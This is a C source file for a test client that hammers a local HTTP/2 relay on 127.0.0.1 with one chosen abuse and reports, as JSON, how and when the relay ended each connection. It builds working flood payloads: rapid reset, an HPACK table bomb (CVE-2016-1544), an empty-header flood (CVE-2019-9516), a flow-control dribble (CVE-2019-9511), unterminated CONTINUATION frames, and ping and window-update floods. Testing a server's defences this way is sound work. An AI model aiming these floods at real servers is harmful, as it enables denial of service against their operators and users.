// One client that abuses HTTP/2 as fast as it can: `abuser PORT KEY KIND SECONDS`; over TLS, on 127.0.0.1.
//
// It sends frames of one kind until the relay ends the connection, and comes back at once, until the time is over; but once it
// wants to be sent away, however long that takes. Prints one JSON object: how many
// connections it had, how they ended (`codes`: GOAWAYs by their code; `unsaid`: ended without one), frames sent in all, and the
// fewest, the median and the most on a connection until its GOAWAY was read.
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>

#include "../Flood/sockets.h"

enum { DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION };
enum { END_STREAM = 1, ACK = 1, END_HEADERS = 4, PADDED = 8 };
enum { FRAME = 16384, BATCH = 4 * FRAME, CODES = 14, MOST = 1 << 20 };
#define NONE UINT32_MAX
#define PATIENCE 30

// What is about to be sent, whole frames only.
static unsigned char batch[BATCH];
static size_t batched, sent_of_batch;
static long frames_in_batch;

static struct connection {
    SSL *ssl;
    int fd;
    // The last stream it opened, whether stream 1 is a session, and the relay's last word: its code, or -1.
    uint32_t stream;
    int is_open, code, is_over;
    long frames;
    unsigned char received[2 * FRAME];
    size_t count;
} connection;

static const char *key;

// MARK: Frames

static unsigned char *number(unsigned char *at, uint32_t value) {
    for (int shift = 24; shift >= 0; shift -= 8) *at++ = value >> shift;
    return at;
}

static void frame(int type, int flags, uint32_t stream, const void *payload, size_t count) {
    unsigned char *at = batch + batched;
    *at++ = count >> 16, *at++ = count >> 8, *at++ = count, *at++ = type, *at++ = flags;
    at = number(at, stream);
    if (count) memcpy(at, payload, count);
    batched += 9 + count;
    frames_in_batch++;
}

static void numbered(int type, uint32_t stream, uint32_t value) {
    unsigned char payload[4];
    number(payload, value);
    frame(type, 0, stream, payload, 4);
}

static void window_setting(uint32_t bytes) {
    unsigned char payload[6] = {0, 4};
    number(payload + 2, bytes);
    frame(SETTINGS, 0, 0, payload, 6);
}

// RFC 7541 §5.1, with a prefix of seven bits.
static unsigned char *length(unsigned char *at, size_t count) {
    if (count < 127) return *at++ = count, at;
    *at++ = 127;
    for (count -= 127; count >= 128; count >>= 7) *at++ = count | 128;
    return *at++ = count, at;
}

static unsigned char *text(unsigned char *at, const char *value) {
    at = length(at, strlen(value));
    return memcpy(at, value, strlen(value)), at + strlen(value);
}

// RFC 7541 §6.2.2: literal, and remembered by nobody.
static unsigned char *field(unsigned char *at, const char *name, const char *value) {
    *at++ = 0;
    return text(text(at, name), value);
}

static unsigned char *get(unsigned char *at) {
    at = field(field(at, ":method", "GET"), ":scheme", "https");
    return field(field(at, ":path", "/"), ":authority", "localhost");
}

// RFC 8441 §5
static unsigned char *session(unsigned char *at) {
    at = field(field(at, ":method", "CONNECT"), ":protocol", "websocket");
    at = field(field(at, ":scheme", "https"), ":path", "/v3/ws");
    at = field(field(at, ":authority", "localhost"), "sec-websocket-version", "13");
    return field(at, "authorization", key);
}

static void head(uint32_t stream, int flags, unsigned char *(*write)(unsigned char *)) {
    unsigned char block[1024];
    frame(HEADERS, flags, stream, block, write(block) - block);
}

static uint32_t next(void) { return connection.stream += 2; }

// MARK: Abuses

static unsigned char filler[FRAME];

static void rapid_reset(void) {
    head(next(), END_HEADERS | END_STREAM, get);
    numbered(RESET, connection.stream, 8);
}

static void sessions_reset(void) {
    head(next(), END_HEADERS, session);
    numbered(RESET, connection.stream, 8);
}

// A body beyond its length.
static unsigned char *empty_body(unsigned char *at) { return field(get(at), "content-length", "0"); }

static void body_too_long(void) {
    head(next(), END_HEADERS, empty_body);
    frame(DATA, 0, connection.stream, filler, 1);
}

static void stream_overflow(void) {
    head(next(), END_HEADERS, get);
    numbered(WINDOW_UPDATE, connection.stream, 0x7fffffff);
}

static void no_fields(void) { frame(HEADERS, END_HEADERS | END_STREAM, next(), NULL, 0); }

static void head_without_end(void) {
    if (connection.stream == NONE) return head(next(), 0, get);
    unsigned char block[8];
    frame(CONTINUATION, 0, connection.stream, block, field(block, "a", "b") - block);
}

// CVE-2016-1544: one field of 4000 bytes, kept in the table and named again by a byte each time.
static void table_bomb(void) {
    static unsigned char block[FRAME];
    unsigned char *at = get(block);
    *at++ = 0x40;
    at = text(at, "x");
    at = length(at, 4000);
    memset(at, 'x', 4000);
    at += 4000;
    memset(at, 0x80 | 62, block + FRAME - at);
    frame(HEADERS, END_HEADERS | END_STREAM, next(), block, FRAME);
}

// CVE-2019-9516
static void empty_fields(void) {
    static unsigned char block[FRAME];
    unsigned char *at = get(block);
    while (at < block + FRAME - 8) at = field(at, "a", "");
    frame(HEADERS, END_HEADERS | END_STREAM, next(), block, at - block);
}

static void settings(void) { frame(SETTINGS, 0, 0, NULL, 0); }
static void ping(void) { frame(PING, 0, 0, filler, 8); }
static void pong(void) { frame(PING, ACK, 0, filler, 8); }
static void unknown(void) { frame(0xee, 0, 0, filler, 3); }

static void priority(void) {
    static const unsigned char order[5] = {0, 0, 0, 3, 7};
    frame(PRIORITY, 0, 1, order, sizeof order);
}

static void empty_data(void) { frame(DATA, 0, 1, NULL, 0); }

static void padding(void) {
    static const unsigned char padding[4] = {3};
    frame(DATA, PADDED, 1, padding, sizeof padding);
}

static void window_nothing(void) { numbered(WINDOW_UPDATE, 0, 0); }
static void window_overflow(void) { numbered(WINDOW_UPDATE, 0, 0x7fffffff); }
static void window_by_one(void) { numbered(WINDOW_UPDATE, 0, 1); }

static void windows_of_all(void) {
    static int turn;
    window_setting(turn++ & 1 ? 65535 : 0);
}

// CVE-2019-9511: much is owed, and taken by the byte.
static void dribble(void) {
    if (connection.frames + frames_in_batch < 8) {
        window_setting(0);
        static unsigned char message[8 + 4000] = {0x82, 0x80 | 126, 4000 >> 8, 4000 & 255};
        for (int count = 0; count < 10; count++) frame(DATA, 0, 1, message, sizeof message);
    }
    numbered(WINDOW_UPDATE, 1, 1);
}

static const struct abuse {
    const char *name;
    void (*add)(void);
    // It needs a session; it reads nothing until nothing more is taken.
    int in_session, is_deaf;
} abuses[] = {
    {"rapid-reset", rapid_reset, 0, 0},
    {"sessions-reset", sessions_reset, 0, 0},
    {"body-too-long", body_too_long, 0, 0},
    {"stream-overflow", stream_overflow, 0, 0},
    {"no-fields", no_fields, 0, 0},
    {"head-without-end", head_without_end, 0, 0},
    {"table-bomb", table_bomb, 0, 0},
    {"empty-fields", empty_fields, 0, 0},
    {"settings", settings, 0, 0},
    {"windows-of-all", windows_of_all, 1, 0},
    {"ping", ping, 0, 0},
    {"pong", pong, 0, 0},
    {"deaf-ping", ping, 0, 1},
    {"priority", priority, 0, 0},
    {"unknown", unknown, 0, 0},
    {"empty-data", empty_data, 1, 0},
    {"padding", padding, 1, 0},
    {"window-by-one", window_by_one, 0, 0},
    {"dribble", dribble, 1, 0},
    {"window-nothing", window_nothing, 0, 0},
    {"window-overflow", window_overflow, 0, 0},
};

// MARK: The connection

static void heard(int type, int flags, uint32_t stream, const unsigned char *payload, size_t count) {
    if (type == SETTINGS && !(flags & ACK)) frame(SETTINGS, ACK, 0, NULL, 0);
    // RFC 7541, appendix A: 8 is `:status: 200`.
    if (type == HEADERS && stream == 1 && count && payload[0] == 0x88) connection.is_open = 1;
    if (type != GOAWAY || count < 8) return;
    uint32_t code = 0;
    for (int index = 4; index < 8; index++) code = code << 8 | payload[index];
    connection.code = code < CODES ? (int)code : CODES - 1;
    connection.is_over = 1;
}

static void take_frames(void) {
    unsigned char *at = connection.received;
    size_t left = connection.count;
    while (left >= 9) {
        size_t count = at[0] << 16 | at[1] << 8 | at[2];
        if (left < 9 + count) break;
        heard(at[3], at[4], at[5] << 24 | at[6] << 16 | at[7] << 8 | at[8], at + 9, count);
        at += 9 + count, left -= 9 + count;
    }
    memmove(connection.received, at, left);
    connection.count = left;
}

// Both give whether anything moved.
static int hear(void) {
    int count = SSL_read(connection.ssl, connection.received + connection.count,
                         sizeof connection.received - connection.count);
    if (count <= 0) {
        int error = SSL_get_error(connection.ssl, count);
        if (error != SSL_ERROR_WANT_READ && error != SSL_ERROR_WANT_WRITE) connection.is_over = 1;
        return 0;
    }
    connection.count += count;
    take_frames();
    return 1;
}

static int speak(void) {
    if (sent_of_batch == batched) return 0;
    int count = SSL_write(connection.ssl, batch + sent_of_batch, batched - sent_of_batch);
    if (count <= 0) {
        // What ends a connection is read, where the relay has said it.
        ERR_clear_error();
        return 0;
    }
    sent_of_batch += count;
    if (sent_of_batch == batched) {
        connection.frames += frames_in_batch;
        batched = sent_of_batch = frames_in_batch = 0;
    }
    return 1;
}

static int begin(SSL_CTX *context, int port, const struct abuse *abuse) {
    connection = (struct connection){.code = -1, .stream = NONE};
    batched = sent_of_batch = frames_in_batch = 0;
    connection.fd = start_connecting(INADDR_LOOPBACK, port);
    if (connection.fd < 0) return 0;
    fcntl(connection.fd, F_SETFL, 0);
    struct pollfd connected = {.fd = connection.fd, .events = POLLOUT};
    poll(&connected, 1, 1000);
    connection.ssl = SSL_new(context);
    SSL_set_fd(connection.ssl, connection.fd);
    if (SSL_connect(connection.ssl) != 1) return 0;
    fcntl(connection.fd, F_SETFL, O_NONBLOCK);
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    memcpy(batch, preface, batched = sizeof preface - 1);
    frame(SETTINGS, 0, 0, NULL, 0);
    if (abuse->in_session) head(next(), END_HEADERS, session);
    return 1;
}

static void end(void) {
    SSL_free(connection.ssl);
    if (connection.fd >= 0) close(connection.fd);
    ERR_clear_error();
}

// Until the relay ends it, or the time is over.
static void attack(const struct abuse *abuse, double end_at) {
    while (!connection.is_over && now() < end_at) {
        int may_begin = connection.is_open || !abuse->in_session;
        if (may_begin && batched == sent_of_batch)
            while (batched < FRAME) abuse->add();
        int has_spoken = speak();
        int has_heard = abuse->is_deaf && has_spoken ? 0 : hear();
        if (has_spoken || has_heard) continue;
        struct pollfd entry = {.fd = connection.fd, .events = POLLIN | (batched > sent_of_batch ? POLLOUT : 0)};
        poll(&entry, 1, 10);
    }
}

static int ascending(const void *left, const void *right) {
    long difference = *(const long *)left - *(const long *)right;
    return difference < 0 ? -1 : difference > 0;
}

int main(int count, char **words) {
    if (count != 5) return 64;
    signal(SIGPIPE, SIG_IGN);
    int port = atoi(words[1]);
    key = words[2];
    const struct abuse *abuse = NULL;
    for (size_t index = 0; index < sizeof abuses / sizeof *abuses; index++)
        if (strcmp(abuses[index].name, words[3]) == 0) abuse = &abuses[index];
    if (!abuse) return 64;
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_mode(context, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    SSL_CTX_set_alpn_protos(context, (const unsigned char *)"\2h2", 3);

    static long until[MOST];
    long connections = 0, refused = 0, unsaid = 0, frames = 0, ended = 0, codes[CODES] = {0};
    double end_at = now() + atof(words[4]);
    while (now() < end_at || (ended == 0 && now() < end_at + PATIENCE)) {
        if (begin(context, port, abuse)) {
            connections++;
            attack(abuse, ended == 0 ? end_at + PATIENCE : end_at);
            frames += connection.frames;
            if (connection.code >= 0) {
                codes[connection.code]++;
                if (ended < MOST) until[ended++] = connection.frames;
            } else if (connection.is_over) {
                unsaid++;
            }
        } else {
            refused++;
        }
        end();
    }
    qsort(until, ended, sizeof *until, ascending);
    printf("{\"connections\": %ld, \"refused\": %ld, \"unsaid\": %ld, \"frames\": %ld, \"codes\": {", connections, refused,
           unsaid, frames);
    const char *comma = "";
    for (int code = 0; code < CODES; code++)
        if (codes[code]) printf("%s\"%d\": %ld", comma, code, codes[code]), comma = ", ";
    printf("}, \"until\": [%ld, %ld, %ld]}\n", ended ? until[0] : 0, ended ? until[ended / 2] : 0,
           ended ? until[ended - 1] : 0);
}
